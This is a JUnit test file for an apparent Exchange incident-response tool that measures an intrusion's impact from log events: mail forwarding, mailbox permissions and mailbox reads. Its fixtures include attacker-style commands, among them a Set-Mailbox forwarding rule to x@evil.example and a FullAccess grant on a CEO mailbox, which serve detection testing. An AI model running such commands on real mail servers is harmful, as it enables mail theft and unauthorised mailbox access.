package dwell.impact;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.FieldRoles;
import dwell.event.ForEachOnly;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** One incident's impact added up from single events: which rows are reads and acts, in which log shapes. */
class ImpactCollectorTest {
    private int line;

    private ImpactCollector collector() {
        return new ImpactCollector(ImpactRules.builtin(), FieldRoles.builtin(), sid -> sid.endsWith("-1150") ? "CONTOSO\\K.Weber" : null);
    }

    private Sighting at(String time, String format, Map<String, String> event) {
        return new Sighting(Instant.parse(time), "EXCH01", "item", ++line, 0, format, event);
    }

    @Test
    void managementLogCmdletsInEveryExportShape() {
        ImpactCollector c = collector();
        // an EVTX record as dwell reads it (its Data elements have no names), a Winlogbeat event, a flat JSON export
        c.add(at("2021-05-11T01:00:00Z", "evtx", Map.of("Channel", "MSExchange Management", "Data1", "Set-Mailbox",
                "Data2", "-Identity \"boss\" -ForwardingSmtpAddress \"smtp:x@evil.example\"")));
        c.add(at("2021-05-11T01:01:00Z", "json", Map.of("winlog.event_data.param1", "Add-MailboxPermission",
                "winlog.event_data.param2", "-Identity \"ceo\" -User \"svc\" -AccessRights \"FullAccess\"")));
        c.add(at("2021-05-11T01:02:00Z", "json", Map.of("param1", "Set-Mailbox", "param2", "-Identity \"boss\" -ForwardingSmtpAddress $null")));
        c.add(at("2021-05-11T01:03:00Z", "json", Map.of("param1", "Set-Mailbox", "param2", "-Identity \"boss\" -ProhibitSendQuota \"9.5 GB\"")));
        Impact im = c.impact();
        assertEquals(List.of(new Impact.Forwarding("boss", "smtp:x@evil.example", Instant.parse("2021-05-11T01:00:00Z"), "mailbox-forwarding")),
                im.forwarding(), "forwarding removed or a quota set is no forwarding");
        assertEquals(List.of(new Impact.Permission("ceo", "svc", "FullAccess", Instant.parse("2021-05-11T01:01:00Z"))), im.permissions());
    }

    @Test
    void onlyAnsweredRequestsOfMailProtocolsAreReadsAndSidsResolveWhereTheEvidenceMapsThem() {
        ImpactCollector c = collector();
        for (String[] r : new String[][] {{"Ews", "Sid~S-1-5-21-1-2-3-1150", "200"}, {"Ews", "Sid~S-1-5-21-1-2-3-1151", "200"},
                {"Mapi", "SMTP:a@contoso.local", "500"}, {"Autodiscover", "SMTP:b@contoso.local", "200"},
                {"Ecp", "SMTP:c@contoso.local", "200"}, {"Owa", "DatabaseGuid~x", "200"}}) {
            c.add(at("2021-05-11T01:00:00Z", "exchange-httpproxy", Map.of("Protocol", r[0], "AnchorMailbox", r[1], "HttpStatus", r[2],
                    "ResponseBytes", "100", "UrlStem", "/x")));
        }
        List<String> read = c.impact().mailboxes().stream().map(Impact.MailboxRead::mailbox).toList();
        assertEquals(List.of("Sid~S-1-5-21-1-2-3-1151", "contoso\\k.weber"), read);
        // answered requests of every protocol are bytes the actor got back; the refused MAPI one is not
        assertEquals(Map.of("Ews", 200L, "Autodiscover", 100L, "Ecp", 100L, "Owa", 100L), c.impact().bytesToActor());
        assertTrue(c.impact().addressBook().isEmpty());
    }

    @Test
    void aProtocolFieldOutsideHttpProxyIsNoMailboxRead() {
        ImpactCollector c = collector();
        // Sysmon network events carry a Protocol too
        c.add(at("2021-05-11T01:00:00Z", "evtx", Map.of("Protocol", "tcp", "AnchorMailbox", "SMTP:a@contoso.local")));
        assertTrue(c.impact().isEmpty());
    }

    @Test
    void fieldsAreFoundUnderContainersWalkingTheEventWithForEach() {
        // as an EVTX event's field table is walked, without an entry object per field
        Map<String, String> ev = new ForEachOnly(Map.of("winlog.event_data.Image", " C:\\x.exe ", "c-ip", "-"));
        assertEquals("C:\\x.exe", ImpactCollector.field(ev, "image"));
        assertNull(ImpactCollector.field(ev, "c-ip"));
        assertNull(ImpactCollector.field(ev, "CommandLine"));
    }
}
